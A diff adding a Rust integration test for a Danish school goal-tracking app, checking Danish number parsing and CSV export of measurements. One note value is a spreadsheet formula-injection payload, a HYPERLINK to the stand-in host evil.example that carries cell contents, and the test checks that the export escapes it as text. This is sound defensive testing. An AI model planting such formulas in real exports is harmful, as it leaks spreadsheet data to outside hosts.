@@ -502,3 +502,127 @@ async fn reports_and_follow_ups_count_towards_the_goals() {
     );
     app.finish().await;
 }
+
+/// The measurements export read back as a spreadsheet would: BOM stripped, `;` between cells.
+fn csv_rows(body: &str) -> Vec<Vec<String>> {
+    let text = body
+        .strip_prefix('\u{feff}')
+        .expect("the export starts with a BOM for Excel");
+    csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.expect("a CSV record").iter().map(String::from).collect())
+        .collect()
+}
+
+#[tokio::test]
+async fn an_exported_note_cannot_run_as_a_formula_and_typed_numbers_read_the_danish_way() {
+    let app = TestApp::demo().await;
+    let goal = app.id_of("SELECT id FROM goals WHERE number = 3").await;
+    let eng = app
+        .id_of("SELECT id FROM organisations WHERE name = 'Engbakkeskolen (demo)'")
+        .await
+        .to_string();
+    let mut coord = app.login_as(KOORDINATOR).await;
+    let c = coord.get("/").await.csrf();
+    // A quantitative indicator whose values may be negative and run into the thousands.
+    let name = "Ændring i elevfravær (timer)";
+    let r = coord
+        .post_form(
+            &format!("/maal/{goal}/indikatorer/ny"),
+            &[
+                ("csrf", &c),
+                ("name", name),
+                ("kind", "kvantitativ"),
+                ("unit", "timer"),
+                ("retning", "ned"),
+                ("omfang", "skole"),
+                ("min_value", "-10000"),
+                ("max_value", "10000"),
+            ],
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
+    let ind = indicator(&app, name).await;
+
+    let form = coord.get(&format!("/indikatorer/{ind}/maaling")).await;
+    assert_eq!(form.status, StatusCode::OK);
+    assert!(
+        form.body.contains(
+            "Komma er decimaltegn (4,5); punktum skiller tusinder (1.234 er tusind og 234)."
+        ),
+        "the value field says how numbers are read"
+    );
+    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")";
+    for (period, value, note) in [
+        ("2023/24", "-3,5", formula),
+        ("2024/25", "1.234", "Tusindtal med punktum."),
+        ("2025/26", "4,5", "Decimaltal med komma."),
+    ] {
+        let r = coord
+            .post_form(
+                &format!("/indikatorer/{ind}/maaling"),
+                &[
+                    ("csrf", &form.csrf()),
+                    ("skole", &eng),
+                    ("periode", period),
+                    ("vaerdi", value),
+                    ("note", note),
+                ],
+            )
+            .await;
+        assert_eq!(r.status, StatusCode::SEE_OTHER, "{value}: {}", r.body);
+    }
+    let stored: Vec<(String, f64, String)> = sqlx::query_as(
+        "SELECT period, value::float8, note FROM measurements WHERE indicator_id = $1 ORDER BY period",
+    )
+    .bind(ind)
+    .fetch_all(&app.pool)
+    .await
+    .unwrap();
+    assert_eq!(
+        stored,
+        vec![
+            ("2023/24".to_string(), -3.5, formula.to_string()),
+            (
+                "2024/25".to_string(),
+                1234.0,
+                "Tusindtal med punktum.".to_string()
+            ),
+            (
+                "2025/26".to_string(),
+                4.5,
+                "Decimaltal med komma.".to_string()
+            ),
+        ],
+        "1.234 is one thousand two hundred and thirty-four; the note is kept as typed"
+    );
+
+    let export = coord.get("/maal/eksport/maalinger.csv").await;
+    assert_eq!(export.status, StatusCode::OK);
+    let rows = csv_rows(&export.body);
+    assert_eq!(rows[0][4], "Værdi");
+    assert_eq!(rows[0][7], "Note", "{:?}", rows[0]);
+    let ours: Vec<&Vec<String>> = rows.iter().filter(|r| r[1] == name).collect();
+    assert_eq!(ours.len(), 3, "{ours:?}");
+    let row = |period: &str| {
+        *ours
+            .iter()
+            .find(|r| r[3] == period)
+            .unwrap_or_else(|| panic!("a row for {period}"))
+    };
+    let evil = row("2023/24");
+    assert!(
+        evil[7].starts_with("'=HYPERLINK"),
+        "the formula is text: {:?}",
+        evil[7]
+    );
+    assert_eq!(evil[7], format!("'{formula}"), "and otherwise unchanged");
+    assert_eq!(evil[4], "-3,5", "a negative number stays a number");
+    assert_eq!(evil[2], "Engbakkeskolen (demo)");
+    assert_eq!(row("2024/25")[4], "1234");
+    assert_eq!(row("2025/26")[4], "4,5");
+    app.finish().await;
+}
